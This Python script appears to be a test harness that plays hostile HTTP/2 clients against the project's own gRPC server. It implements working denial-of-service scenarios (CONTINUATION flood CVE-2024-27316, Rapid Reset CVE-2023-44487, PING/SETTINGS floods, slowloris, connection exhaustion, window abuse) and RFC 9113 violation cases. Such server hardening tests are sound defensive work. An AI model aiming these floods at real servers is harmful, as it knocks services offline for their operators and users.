#!/usr/bin/python3
"""Frame-level HTTP/2 peer for the wire tests: hostile clients written with
python3-h2 (h2, hpack, hyperframe), independent of our own HTTP/2 code.

Usage: h2_attack.py HOST:PORT SCENARIO [BYTES]  (SCENARIO "rfc:a,b" runs RFC cases a and b)

Each scenario sends at most BYTES bytes (without reading, where the attack is
a peer that does not read), then reads what the server sent until it closes
or goes quiet, and prints one JSON line: bytes sent, the GOAWAY code (or
null), RST_STREAM codes by stream, and whether a gRPC health check on the
same connection was answered (scenario "probe" only).
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH = "/grpc.health.v1.Health/Check"


def request_headers(path=HEALTH, extra=()):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra,
    ]


class Peer:
    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = hpack.Encoder()
        self.sent = 0
        self.received = 0
        self.buf = b""
        self.goaway = None
        self.goaway_debug = ""
        self.rst = {}
        self.headers = {}
        self.closed = False
        self.frames = 0
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        # A peer that does not read: the send blocks once both socket buffers
        # are full. A timeout turns that into "the server stopped reading" (generous:
        # a loaded machine reads slowly).
        self.sock.settimeout(3)
        try:
            self.sock.sendall(data)
            self.sent += len(data)
            return True
        except (socket.timeout, BrokenPipeError, ConnectionResetError):
            return False

    def block(self, headers):
        return self.enc.encode(headers)

    def read(self, quiet=2.0, limit=20.0):
        """Reads frames until the server closes or sends nothing for `quiet` s."""
        self.sock.settimeout(quiet)
        deadline = time.time() + limit
        while time.time() < deadline:
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                break
            except ConnectionResetError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.received += len(chunk)
            self.buf += chunk
            self._parse()
        return self

    def _parse(self):
        buf = memoryview(self.buf)
        at = 0
        while len(buf) - at >= 9:
            length = int.from_bytes(buf[at:at + 3], "big")
            if len(buf) - at < 9 + length:
                break
            kind = buf[at + 3]
            self.frames += 1
            if kind not in (1, 3, 7):  # only HEADERS, RST_STREAM and GOAWAY matter here
                at += 9 + length
                continue
            frame, _ = Frame.parse_frame_header(buf[at:at + 9])
            frame.parse_body(buf[at + 9:at + 9 + length])
            at += 9 + length
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
                self.goaway_debug = bytes(frame.additional_data).decode("utf-8", "replace")
            elif isinstance(frame, RstStreamFrame):
                self.rst[frame.stream_id] = frame.error_code
            elif isinstance(frame, HeadersFrame):
                self.headers.setdefault(frame.stream_id, b"")
                self.headers[frame.stream_id] += bytes(frame.data)
        self.buf = bytes(buf[at:])

    def result(self, **extra):
        codes = {}
        for code in self.rst.values():
            codes[str(code)] = codes.get(str(code), 0) + 1
        return {
            "sent": self.sent,
            "received": self.received,
            "goaway": self.goaway,
            "debug": self.goaway_debug,
            "rst": codes,
            "closed": self.closed,
            "frames": self.frames,
            **extra,
        }


def flood(peer, frame_bytes, budget):
    """Sends `frame_bytes` repeated until `budget` bytes, in 64 KiB writes."""
    batch = frame_bytes * max(1, (64 * 1024) // len(frame_bytes))
    while peer.sent < budget:
        if not peer.send(batch):
            break


def probe(address):
    """A well-behaved client (h2's state machine): one gRPC health check."""
    sock = socket.create_connection(tuple_address(address), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, request_headers())
    conn.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
    sock.sendall(conn.data_to_send())
    status = None
    deadline = time.time() + 5
    while status is None and time.time() < deadline:
        data = sock.recv(65536)
        if not data:
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in ev.headers:
                    if k in (b"grpc-status", "grpc-status"):
                        status = int(v)
        sock.sendall(conn.data_to_send())
    sock.close()
    return {"grpc_status": status}


def window_polite(address, streams):
    """A client that respects flow control (h2's state machine) and wants to
    send more than the server holds: one 7 MiB request left unfinished after
    1 MiB, then `streams` requests of 4 MiB. It sends whatever the windows
    allow until nothing moves for 1.5 s (throttled), then finishes the first
    request and keeps sending until every call is answered."""
    sock = socket.create_connection(tuple_address(address), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sizes = {1: 7 << 20}
    for i in range(streams):
        sizes[3 + 2 * i] = 4 << 20
    todo = {}
    for sid, size in sizes.items():
        conn.send_headers(sid, request_headers())
        todo[sid] = b"\x00" + size.to_bytes(4, "big") + b"\x00" * size
    status = {}
    held = {1: len(todo[1]) - (1 << 20)}  # bytes of stream 1 kept back for now

    def pump():
        """Sends what the windows allow; True when anything went out."""
        moved = False
        for sid in list(todo):
            keep = held.get(sid, 0)
            while len(todo[sid]) > keep:
                room = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size,
                           len(todo[sid]) - keep)
                if room <= 0:
                    break
                last = room == len(todo[sid])
                conn.send_data(sid, todo[sid][:room], end_stream=last)
                todo[sid] = todo[sid][room:]
                moved = True
            if not todo[sid]:
                del todo[sid]
        sock.settimeout(30)
        sock.sendall(conn.data_to_send())
        return moved

    def read(timeout):
        sock.settimeout(timeout)
        try:
            data = sock.recv(1 << 20)
        except socket.timeout:
            return False
        if not data:
            raise SystemExit("server closed the connection")
        for ev in conn.receive_data(data):
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in ev.headers:
                    if k in (b"grpc-status", "grpc-status"):
                        status[ev.stream_id] = int(v)
            elif isinstance(ev, h2.events.StreamReset):
                status[ev.stream_id] = -ev.error_code
        sock.settimeout(30)
        sock.sendall(conn.data_to_send())
        return True

    quiet_since = time.time()
    while time.time() - quiet_since < 1.5:
        if pump() or read(0.2):
            quiet_since = time.time()
    wanted = sum(sizes.values()) + 5 * len(sizes)
    throttled = sum(sizes.values()) + 5 * len(sizes) - sum(len(t) for t in todo.values())
    held.clear()
    deadline = time.time() + 120
    while len(status) < len(sizes) and time.time() < deadline:
        pump()
        read(0.2)
    sock.close()
    return {"wanted": wanted, "sent_before_release": throttled, "status": status}


def wait_closed(sock, seconds):
    """True when the server closes the socket within `seconds`."""
    sock.settimeout(seconds)
    try:
        while True:
            if not sock.recv(65536):
                return True
    except socket.timeout:
        return False
    except ConnectionResetError:
        return True


def tuple_address(address):
    host, port = address.rsplit(":", 1)
    return (host, int(port))


def main():
    address, scenario = sys.argv[1], sys.argv[2]
    budget = int(sys.argv[3]) if len(sys.argv) > 3 else 8 << 20
    if scenario == "probe":
        print(json.dumps(probe(address)))
        return
    if scenario == "slowloris":
        # Half a preface, then nothing: the server must hang up on its own.
        sock = socket.create_connection(tuple_address(address))
        sock.sendall(PREFACE[:10])
        print(json.dumps({"closed": wait_closed(sock, 10)}))
        return
    if scenario == "many":
        # More connections than the cap: the extra ones are closed at once.
        socks = []
        for _ in range(budget):
            s = socket.create_connection(tuple_address(address))
            s.sendall(PREFACE + SettingsFrame(0).serialize())
            socks.append(s)
        time.sleep(0.3)
        closed = sum(1 for s in socks if wait_closed(s, 0.05))
        for s in socks:
            s.close()
        time.sleep(0.3)
        print(json.dumps({"closed": closed, "after": probe(address)}))
        return
    if scenario == "window_polite":
        print(json.dumps(window_polite(address, budget)))
        return
    if scenario.startswith("rfc:"):
        # Several cases, comma-separated, each on its own connection.
        results = {}
        for name in scenario[4:].split(","):
            p = Peer(address)
            rfc_case(p, name)
            p.read(quiet=0.3)
            results[name] = p.result()
        print(json.dumps(results))
        return
    p = Peer(address)
    if scenario == "continuation":
        # CVE-2024-27316: a header block that never ends, in empty frames.
        p.send(HeadersFrame(1, p.block(request_headers())[:5]).serialize())
        flood(p, ContinuationFrame(1, b"").serialize(), budget)
    elif scenario == "ping":
        flood(p, PingFrame(0, b"12345678").serialize(), budget)
    elif scenario == "settings":
        f = SettingsFrame(0)
        f.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
        flood(p, f.serialize(), budget)
    elif scenario == "unknown_method":
        # A 3800-byte path indexed once; every later request names it in a
        # few bytes, and the answer used to echo it three times over.
        path = "/" + "x" * 3800
        sid = 1
        first = True
        while p.sent < budget:
            chunk = b""
            for _ in range(256):
                hdr = request_headers(path)
                f = HeadersFrame(sid, p.block(hdr))
                f.flags.add("END_HEADERS")
                f.flags.add("END_STREAM")
                chunk += f.serialize()
                sid += 2
                first = False
            if not p.send(chunk):
                break
    elif scenario == "window":
        # Eight streams each declare a 4 MiB message and pour DATA without
        # waiting for WINDOW_UPDATE; the server holds 8 MiB of requests, so
        # six of them wait, and their windows do not open.
        for sid in range(1, 17, 2):
            f = HeadersFrame(sid, p.block(request_headers()))
            f.flags.add("END_HEADERS")
            p.send(f.serialize() + DataFrame(sid, b"\x00" + (4 << 20).to_bytes(4, "big")).serialize())
        payload = b"\x00" * 16384
        sid = 1
        while p.sent < budget:
            if not p.send(DataFrame(sid, payload).serialize()):
                break
            sid = sid + 2 if sid < 15 else 1
    elif scenario == "rapid_reset":
        # CVE-2023-44487: open a stream with a whole request, reset it at once.
        sid = 1
        while p.sent < budget:
            chunk = b""
            for _ in range(256):
                h = HeadersFrame(sid, p.block(request_headers("/tfplugin6.Provider/ReadResource")))
                h.flags.add("END_HEADERS")
                d = DataFrame(sid, b"\x00\x00\x00\x00\x00")
                d.flags.add("END_STREAM")
                r = RstStreamFrame(sid)
                r.error_code = 8
                chunk += h.serialize() + d.serialize() + r.serialize()
                sid += 2
            if not p.send(chunk):
                break
    elif scenario == "cancel_call":
        # A call the handler only ends when aborted; the client resets it.
        h = HeadersFrame(1, p.block(request_headers("/tfplugin6.Provider/ReadResource")))
        h.flags.add("END_HEADERS")
        d = DataFrame(1, b"\x00\x00\x00\x00\x00")
        d.flags.add("END_STREAM")
        p.send(h.serialize() + d.serialize())
        time.sleep(0.3)
        r = RstStreamFrame(1)
        r.error_code = 8
        p.send(r.serialize())
    elif scenario == "idle":
        # One finished call, then silence: GOAWAY NO_ERROR after the idle timeout.
        h = HeadersFrame(1, p.block(request_headers()))
        h.flags.add("END_HEADERS")
        d = DataFrame(1, b"\x00\x00\x00\x00\x00")
        d.flags.add("END_STREAM")
        p.send(h.serialize() + d.serialize())
        p.read(quiet=5.0, limit=10.0)
        print(json.dumps(p.result()))
        return
    else:
        raise SystemExit(f"unknown scenario {scenario}")
    p.read()
    print(json.dumps(p.result()))


def rfc_case(p, name):
    """One RFC 9113 violation; the server must answer with GOAWAY or RST_STREAM."""
    def headers(sid, fields, end_stream=True, priority=None):
        f = HeadersFrame(sid, p.block(fields))
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        if priority is not None:
            f.flags.add("PRIORITY")
            f.depends_on = priority
            f.stream_weight = 15
        p.send(f.serialize())

    ok = request_headers()
    if name == "reused_stream_id":
        headers(1, ok, end_stream=False)
        p.send(DataFrame(1, b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]).serialize())
        p.read(quiet=0.5)
        headers(1, ok)
    elif name == "decreasing_stream_id":
        headers(5, ok)
        headers(3, ok)
    elif name == "window_update_idle":
        w = WindowUpdateFrame(7)
        w.window_increment = 100
        p.send(w.serialize())
    elif name == "priority_self":
        f = PriorityFrame(3)
        f.depends_on = 3
        p.send(f.serialize())
    elif name == "priority_length":
        p.send(b"\x00\x00\x04\x02\x00\x00\x00\x00\x03" + b"\x00" * 4)
    elif name == "headers_priority_self":
        headers(3, ok, priority=3)
    elif name == "uppercase_header":
        headers(1, ok + [("X-Upper", "1")])
    elif name == "missing_path":
        headers(1, [h for h in ok if h[0] != ":path"])
    elif name == "connection_header":
        headers(1, ok + [("connection", "keep-alive")])
    elif name == "te_not_trailers":
        headers(1, [h for h in ok if h[0] != "te"] + [("te", "gzip")])
    elif name == "pseudo_after_regular":
        headers(1, [h for h in ok if h[0] != ":path"] + [(":path", HEALTH)])
    elif name == "unknown_pseudo":
        headers(1, ok + [(":foo", "bar")])
    elif name == "trailers_with_pseudo":
        headers(1, ok, end_stream=False)
        headers(1, [(":status", "200")])
    elif name == "closed_stream_headers":
        headers(1, ok, end_stream=False)
        r = RstStreamFrame(1)
        r.error_code = 8
        p.send(r.serialize())
        headers(1, ok)
    else:
        raise SystemExit(f"unknown rfc case {name}")


if __name__ == "__main__":
    main()
